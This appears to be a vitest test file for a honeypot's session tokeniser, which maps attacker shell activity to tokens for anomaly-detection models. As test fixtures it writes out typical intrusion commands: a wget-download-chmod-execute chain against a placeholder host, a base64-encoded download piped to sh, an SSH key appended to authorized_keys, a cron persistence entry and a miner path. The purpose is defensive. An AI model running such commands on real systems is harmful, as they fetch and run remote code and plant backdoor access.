import type { CerberusEvent, EventData } from '@cerberusmesh/contracts';
import { describe, expect, it } from 'vitest';
import { testEvent } from '../scoring/test-facts.ts';
import { ANOMALY_LIMITS } from './limits.ts';
import { sequencesOf, TOKENS, tokensOf } from './session-tokens.ts';

function namesOf(events: readonly CerberusEvent[]): string[] {
  return [...tokensOf(events)].map((token) => TOKENS[token] ?? 'outside of the vocabulary');
}

function command(input: string): CerberusEvent {
  return testEvent('command.entered', input, { input, channel: 'shell' });
}

function login(change: Partial<EventData<'credential.tried'>>): CerberusEvent {
  return testEvent('credential.tried', JSON.stringify(change), {
    method: 'password',
    username: 'root',
    accepted: false,
    ...change,
  });
}

describe('the tokens of a session', () => {
  it('tell what happened and what each command is for', () => {
    const session = [
      testEvent('session.opened', 'opened', {}),
      login({ secret: 'a' }),
      login({ secret: 'b', accepted: true }),
      command('cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh -O x; chmod 777 x && ./x'),
      testEvent('file.downloaded', 'x', {
        url: 'http://192.0.2.1/x.sh',
        sha256: null,
        bytes: null,
        via: 'wget',
        obtained: false,
      }),
      command('uname -a | grep x86_64'),
      testEvent('session.closed', 'closed', { reason: 'client-closed', durationMs: 5 }),
    ];
    expect(namesOf(session)).toEqual([
      'session.opened',
      'credential.tried',
      'credential.tried accepted',
      'go-to',
      'go-to',
      'download',
      'permit-file',
      'run-own-file',
      'file.downloaded missing',
      'look-at-system',
      'shape-text',
      'session.closed',
    ]);
  });

  it.each([
    ['echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys', ['write-key']],
    ['echo "* * * * * root /tmp/x" > /etc/cron.d/x', ['write-schedule']],
    ['/usr/bin/wget http://192.0.2.1/', ['download']],
    ['/tmp/.x/kinsing', ['run-own-file']],
    ['X=1', ['assign-only']],
    ['frobnicate --all', ['unknown-program']],
    ['__proto__; constructor', ['unknown-program', 'unknown-program']],
    ['   ', ['command.entered']],
  ])('%s', (input, expected) => {
    expect(namesOf([command(input)])).toEqual(expected);
  });

  it('open what wrappers and encodings hide', () => {
    const encoded = Buffer.from('wget http://192.0.2.1/x').toString('base64');
    expect(namesOf([command(`echo ${encoded} | base64 -d | sh`)])).toContain('download');
    expect(namesOf([command('sudo sh -c "crontab -l"')])).toContain('schedule');
  });

  it('count a token that repeats without a break four times at most', () => {
    const guesses = Array.from({ length: 50 }, (_, index) => login({ secret: `${index}` }));
    expect(namesOf([...guesses, command('id'), ...guesses])).toEqual([
      ...Array<string>(4).fill('credential.tried'),
      'look-at-users',
      ...Array<string>(4).fill('credential.tried'),
    ]);
  });

  it('end at the limit, whatever an attacker sends', () => {
    const long = command('id; ls; '.repeat(5_000));
    const many = Array.from({ length: 300 }, (_, index) => command(index % 2 === 0 ? 'id' : 'ls'));
    expect(tokensOf([long])).toHaveLength(ANOMALY_LIMITS.maxTokensPerSession);
    expect(tokensOf(many)).toHaveLength(ANOMALY_LIMITS.maxTokensPerSession);
  });

  it('leave out what says nothing of the attacker', () => {
    expect(
      namesOf([
        testEvent('command.resolved', 'resolved', { input: 'id', known: true }),
        testEvent('limit.reached', 'limit', { limit: 'maxLineBytes', value: 1 }),
      ]),
    ).toEqual([]);
  });

  it('have one number each', () => {
    expect(new Set(TOKENS).size).toBe(TOKENS.length);
  });

  it('are laid one session after another for the models', () => {
    expect(sequencesOf([Int32Array.of(1, 2), new Int32Array(0), Int32Array.of(3)])).toEqual({
      tokens: Int32Array.of(1, 2, 3),
      offsets: Int32Array.of(0, 2, 2, 3),
      count: 3,
      vocabularySize: TOKENS.length,
    });
  });
});
